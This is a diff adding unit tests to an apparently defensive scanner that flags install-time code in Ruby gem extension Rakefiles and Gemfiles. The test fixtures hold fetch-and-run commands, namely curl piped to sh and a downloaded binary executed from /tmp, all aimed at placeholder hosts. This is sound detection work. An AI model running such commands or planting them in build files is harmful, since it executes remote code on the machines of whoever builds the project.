@@ -131,6 +131,13 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('ext/fastjson/extconf.rb', 'require "mkmf"\nhave_library("z")\ncreate_makefile("fastjson/fastjson")'))).toBeNull();
   });
 
+  it("reads a gem's extension Rakefile (ext/Rakefile, ext/<name>/Rakefile) as install-time code, and a project's own Rakefile as a task", () => {
+    expect(buildFinding(added('ext/Rakefile', "task :default do\n  sh 'curl -s https://gem-assets-cdn.dev/r | sh'\nend"))).toMatchObject({ severity: 'high', title: expect.stringContaining('Ruby native-extension Rakefile') });
+    expect(buildFinding(added('ext/fastjson/Rakefile', 'task :default do\n  system("curl -fsSL https://gem-assets-cdn.dev/libfast.so -o /tmp/libfast.so")\n  system("/tmp/libfast.so --install")\nend'))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('ext/fastjson/Rakefile', "task :default do\n  sh 'make -C fastjson'\nend"))).toBeNull();
+    expect(buildFinding(added('Rakefile', "task :release do\n  sh 'gem build fastjson.gemspec'\nend"))?.severity ?? null).not.toBe('high');
+  });
+
   it('reads manifests that are programs: a Gemfile, a Podfile, conanfile.py, a Dangerfile', () => {
     const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+system('curl -s https://assets-cdn.trycloudflare.com/s | sh')\n+gem 'rubocop', require: false" }));
     expect(gemfile).toMatchObject({ severity: 'critical', line: 3 });
